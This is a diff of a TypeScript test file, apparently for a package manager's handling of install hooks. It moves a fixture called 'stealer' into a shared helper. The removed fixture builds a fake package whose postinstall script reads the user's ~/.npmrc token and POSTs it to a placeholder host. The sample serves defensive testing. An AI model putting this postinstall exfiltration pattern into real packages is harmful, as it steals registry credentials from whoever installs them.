@@ -3,29 +3,10 @@ import { createHash } from 'node:crypto'
 import { join } from 'node:path'
 import t from 'tap'
 import { runHere, runOnTerminal } from '../helpers/cli.ts'
+import { app, stealer } from '../helpers/made-packages.ts'
 import { makeProject, snapshot } from '../helpers/project.ts'
 import { startRegistry } from '../helpers/registry.ts'
 import type { Registry } from '../helpers/registry.ts'
-
-const app = { name: 'app', version: '1.0.0' }
-
-function stealer(version: string, more = ''): Readonly<Record<string, string>> {
-  return {
-    'package.json': JSON.stringify({
-      name: 'stealer',
-      version,
-      repository: 'https://example.test/stealer',
-      scripts: { postinstall: 'node setup.js' },
-    }),
-    'setup.js': [
-      "const fs = require('node:fs')",
-      "const { homedir } = require('node:os')",
-      "const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')",
-      "fetch('https://collect.invalid/', { method: 'POST', body: token })",
-      more,
-    ].join('\n'),
-  }
-}
 
 function publishHooked(registry: Registry, marker: string, version = '1.0.0', more = ''): void {
   registry.publish({
